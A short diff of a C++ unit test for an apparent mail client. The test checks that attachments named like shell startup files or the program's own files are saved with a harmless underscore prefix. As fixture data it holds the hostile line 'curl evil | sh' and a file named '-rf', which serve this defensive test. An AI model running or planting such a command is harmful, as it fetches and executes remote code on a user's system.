@@ -415,9 +415,9 @@ TEST_F(RunUnderFire, MailedFilesNamedLikeStartUpOrOwnFilesLandHarmlessly) {
     servers().setMails({mail});
     Tmain& w = startWindow();
     w.BitBtn2->click();
-    EXPECT_EQ(test::readBytes("_.bash_profile"), "curl evil | sh\r\n");
-    EXPECT_EQ(test::readBytes("_addressbook.lst"), "redirected\r\n");
-    EXPECT_EQ(test::readBytes("_readmsg.pnd"), "in doubt\r\n");
+    EXPECT_EQ(test::readBytes("_.bash_profile"), "curl evil | sh");
+    EXPECT_EQ(test::readBytes("_addressbook.lst"), "redirected");
+    EXPECT_EQ(test::readBytes("_readmsg.pnd"), "in doubt");
     EXPECT_FALSE(fs::exists("readmsg.pnd"));
     EXPECT_TRUE(fs::exists("_-rf"));
     EXPECT_FALSE(fs::exists(".bash_profile"));
